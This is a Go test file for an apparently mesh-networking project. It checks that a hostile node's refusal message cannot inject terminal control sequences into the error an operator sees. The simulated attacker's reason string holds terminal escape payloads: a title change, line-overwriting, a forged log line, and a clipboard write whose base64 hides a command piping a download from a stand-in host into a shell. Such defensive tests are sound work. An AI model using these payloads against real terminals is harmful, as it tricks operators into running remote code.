package node

import (
	"errors"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/circuitmesh/circuitmesh/circuit"
)

// TestAttackResultTextReachesTerminal: a node with a valid certificate
// (here the destination itself; any relay on the path can do the same,
// result headers are not authenticated) refuses a circuit with a result
// header whose node name and reason carry terminal control sequences: an
// OSC title and clipboard write, a carriage return and erase-line that
// overwrite the start of the line, a forged second line. The dialler's
// error, which the CLI prints to the operator's terminal as it is
// (`circuitmesh: ` + err.Error()) and applications log, must not carry
// them: a certificate holder may refuse a circuit, not write to whoever
// reads the refusal.
func TestAttackResultTextReachesTerminal(t *testing.T) {
	c := newCluster(t, true)
	c.build("h-x")
	h := c.nodes["h"]
	m := newAttacker(t, c, "m", h)
	c.waitRoute("h", "m", 1)
	go func() {
		for {
			s, err := m.link.AcceptStream(ctxT(t, time.Minute))
			if err != nil {
				return
			}
			if _, err := circuit.ReadOpen(s, 0); err != nil {
				s.Reset(circuit.CloseCancelled)
				continue
			}
			circuit.WriteResult(s, circuit.Result{Code: circuit.Policy,
				Node:   "m\x1b[8m",
				Reason: "\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\r\x1b[2Kcircuitmesh: all good\nlevel=INFO msg=forged"})
			s.Close()
		}
	}()
	_, err := h.Dial(ctxT(t, 10*time.Second), "m", "svc")
	var re *circuit.RefusedError
	if !errors.As(err, &re) {
		t.Fatalf("dial of m: %v, want a refusal", err)
	}
	msg := err.Error()
	t.Logf("the error the dialler gets: %q", msg)
	if i := strings.IndexFunc(msg, func(r rune) bool { return !unicode.IsPrint(r) }); i >= 0 {
		t.Errorf("the refusal's text carries control character %q at byte %d, from the refusing node's bytes", msg[i], i)
	}
}
